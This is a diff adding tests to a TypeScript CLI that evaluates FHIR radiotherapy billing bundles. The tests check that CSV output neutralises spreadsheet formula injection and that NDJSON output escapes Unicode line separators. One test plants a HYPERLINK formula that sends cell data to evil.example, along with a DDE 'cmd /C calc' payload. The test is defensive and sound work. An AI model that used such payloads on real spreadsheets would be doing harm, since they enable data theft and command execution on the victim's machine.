@@ -165,6 +165,22 @@ describe('a folder of Bundles (every golden case, one patient each)', () => {
     expect(rows.find((r) => r.includes(',B-MISSED,'))).toContain(',warning,36.74,');
   });
 
+  it('--format csv: FHIR values that look like formulas (unresolved encounter references) are written as text', async () => {
+    const bundle = readJson(join(CASES_DIR, 'acro-2-prostate-imrt-stereoscopic.bundle.json')) as unknown as {
+      entry: { resource: { resourceType: string; encounter?: { reference: string } } }[];
+    };
+    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0"];
+    bundle.entry
+      .filter(({ resource }) => resource.resourceType === 'Procedure' && resource.encounter)
+      .forEach(({ resource }, i) => (resource.encounter!.reference = hostile[i % 2]!));
+    const dir = tempDir();
+    writeFileSync(join(dir, 'hostile.json'), JSON.stringify(bundle));
+    const result = await cli(['evaluate', dir, '--format', 'csv']);
+    expect(result.stdout).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",`);
+    expect(result.stdout).toContain(`,'+cmd|' /C calc'!A0,`);
+    expect(result.stdout).not.toMatch(/(^|,)"?[=+]/m);
+  });
+
   it('--out FILE writes the output there', async () => {
     const dir = copyInto(tempDir(), FILES.slice(0, 2));
     const out = join(tempDir(), 'out.ndjson');
@@ -302,6 +318,53 @@ describe('rt-billing merge: shards of one department', () => {
     const merged = await cli(['merge', out]);
     expect(merged.code).toBe(3);
     expect(merged.stderr).toContain('did its run finish');
+  });
+});
+
+describe('NDJSON keeps one record a line for every reader (U+2028, U+2029, NEL in FHIR values)', () => {
+  /** Where Python's str.splitlines (and readers like it) end a line besides \n (its others, \v \f \x1c-\x1e, JSON escapes). */
+  const UNICODE_LINE_BREAKS = /\r\n|[\n\r\x85\u2028\u2029]/;
+  const SEPARATORS = 'Encounter/one\u2028two\u2029three\u0085four';
+  /** acro-2 with its fractions naming an encounter by a reference that holds the three separators (kept as written). */
+  const hostileDepartment = () => {
+    const bundle = readJson(join(CASES_DIR, 'acro-2-prostate-imrt-stereoscopic.bundle.json')) as unknown as {
+      entry: { resource: { resourceType: string; encounter?: { reference: string } } }[];
+    };
+    for (const { resource } of bundle.entry)
+      if (resource.resourceType === 'Procedure' && resource.encounter) resource.encounter.reference = SEPARATORS;
+    const dir = tempDir();
+    writeFileSync(join(dir, 'separators.json'), JSON.stringify(bundle));
+    return dir;
+  };
+  const checkLines = (text: string) => {
+    expect(text).not.toMatch(/[\u0085\u2028\u2029]/);
+    expect(text).toContain('one\\u2028two\\u2029three\\u0085four');
+    const lines = text.trimEnd().split(UNICODE_LINE_BREAKS);
+    expect(lines).toHaveLength(2); // the patient and the summary, whoever splits them
+    const patient = JSON.parse(lines[0]!) as { sessions: { encounter: string }[] };
+    expect(patient.sessions[0]!.encounter).toBe(SEPARATORS); // the same value once parsed
+  };
+
+  it('rt-billing evaluate --format ndjson, to stdout and to --out FILE, escapes them', async () => {
+    const dir = hostileDepartment();
+    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
+    expect(result.code).toBe(0);
+    checkLines(result.stdout);
+    const out = join(tempDir(), 'out.ndjson');
+    expect((await cli(['evaluate', dir, '--format', 'ndjson', '--out', out])).code).toBe(0);
+    checkLines(readFileSync(out, 'utf8'));
+  });
+
+  it('rt-billing merge escapes them in a shard written raw (by an earlier version)', async () => {
+    const dir = hostileDepartment();
+    const escaped = (await cli(['evaluate', dir, '--format', 'ndjson'])).stdout;
+    const raw = escaped.replace(/\\u(2028|2029|0085)/g, (_m, hex: string) => String.fromCharCode(parseInt(hex, 16)));
+    expect(raw).toMatch(/\u2028/);
+    const shard = join(tempDir(), 'shard.ndjson');
+    writeFileSync(shard, raw);
+    const merged = await cli(['merge', shard]);
+    expect(merged.code).toBe(0);
+    checkLines(merged.stdout);
   });
 });
 
